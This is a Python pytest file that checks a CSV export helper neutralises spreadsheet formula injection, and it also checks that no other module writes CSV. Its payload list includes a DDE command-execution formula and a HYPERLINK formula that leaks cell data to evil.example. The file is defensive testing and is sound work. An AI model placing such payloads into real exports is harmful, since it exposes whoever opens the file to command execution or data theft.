"""Tables for spreadsheets: a caller's name is a name and never a formula."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foundation.spreadsheet import csv_text, safe_cell

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "'=1", "\ufeff=1",
    '=HYPERLINK("https://evil.example/?"&A1,"here")', "\x00=1", "=1,=2\n=3",
]  # fmt: skip


@pytest.mark.promise(24)
@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_what_could_begin_a_formula_is_shown_as_text(payload):
    [head, row] = csv.reader(io.StringIO(csv_text(["name"], [[payload]]), newline=""))
    assert head == ["name"]
    assert row[0].startswith("'")


@pytest.mark.promise(24)
@given(st.text(max_size=40))
def test_no_text_begins_a_formula_and_none_leaves_its_cell(text):
    """Whatever a caller, a carrier or an agent wrote: one row, two cells, both inert."""
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [[text, text]]), newline="")))
    assert [len(row) for row in rows] == [2, 2]
    assert rows[1][0][:1] not in set("=+-@\t\r\n")
    assert rows[1][0].lstrip(" '\u00a0\ufeff")[:1] not in set("=+-@") or rows[1][0].startswith("'")


def test_numbers_stay_numbers():
    """A report's own figures may be negative."""
    assert [safe_cell(value) for value in (-3, 2.5, None, True, "Ann")] == ["-3", "2.5", "", "True", "Ann"]


@pytest.mark.promise(24)
def test_nothing_else_in_the_house_writes_csv():
    """One door: an export that goes round it would not be safe."""
    folders = ("console", "ivr", "callbacks", "routing", "recordings", "transcription", "call_flows", "foundation")
    written = []
    for folder in folders:
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "spreadsheet.py" or "node_modules" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    named = {alias.name for alias in node.names}
                elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    named = {node.attr}
                else:
                    continue
                if named & {"DictWriter", "writer"}:
                    written.append(str(path))
    assert written == []
